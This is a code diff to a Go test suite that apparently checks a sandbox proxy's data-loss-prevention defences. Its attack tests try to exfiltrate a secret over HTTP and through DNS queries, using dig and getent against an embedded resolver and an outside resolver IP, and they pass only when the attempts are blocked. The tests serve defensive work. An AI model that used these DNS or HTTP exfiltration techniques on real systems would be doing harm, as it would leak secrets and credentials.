@@ -65,7 +65,7 @@ func (b *bottle) attackSecretExfil(t *testing.T) {
 	for i, c := range cases {
 		calls[i] = c.args
 	}
-	echo0 := len(b.w.echoLogs(t.Context()))
+	echo0 := len(b.echoHits(t.Context()))
 	res := b.curlMany(t, calls)
 	for i, c := range cases {
 		r := res[i]
@@ -78,7 +78,7 @@ func (b *bottle) attackSecretExfil(t *testing.T) {
 		wantBlocked(t, c.name, r, "dlp.known-secret")
 	}
 	// Whatever reached the echo must not hold the secret in any form.
-	for _, h := range b.w.echoLogs(t.Context())[echo0:] {
+	for _, h := range b.echoHits(t.Context())[echo0:] {
 		if s := fmt.Sprintf("%s %s %v %s", h.Host, h.URI, h.Headers, h.Body); containsSecret(s, secretValue) {
 			t.Errorf("ESCAPE the echo upstream received the secret: %+v", h)
 		}
@@ -123,13 +123,13 @@ func (b *bottle) attackDNSExfil(t *testing.T) {
 		b.wantConnectBlocked(t, b.proxy, name+":443", "dlp.")
 	})
 	b.quiet(t, "secret name through the embedded resolver", func() {
-		out, _, _ := b.run(t, `dig +time=2 +tries=1 "$1" | grep -E 'status:|ANSWER SECTION|timed out' ; getent hosts "$1"; echo "getent=$?"`, name)
+		out, _, _ := b.run(t, `dig +time=1 +tries=1 "$1" | grep -E 'status:|ANSWER SECTION|timed out' ; RES_OPTIONS="timeout:1 attempts:1" getent hosts "$1"; echo "getent=$?"`, name)
 		if strings.Contains(out, "ANSWER SECTION") || !strings.Contains(out, "getent=2") {
 			t.Errorf("ESCAPE the embedded resolver answered %s: %q", name, out)
 		}
 	})
 	b.quiet(t, "secret name straight to an outside resolver", func() {
-		out, _, _ := b.run(t, `dig +time=2 +tries=1 @"$1" "$2"; dig +tcp +time=2 +tries=1 @"$1" "$2"`, b.outIP, name)
+		out, _, _ := b.run(t, `dig +time=1 +tries=1 @"$1" "$2"; dig +tcp +time=2 +tries=1 @"$1" "$2"`, b.outIP, name)
 		if strings.Contains(out, "status: ") {
 			t.Errorf("ESCAPE dig @%s got an answer: %s", b.outIP, trunc(out))
 		}
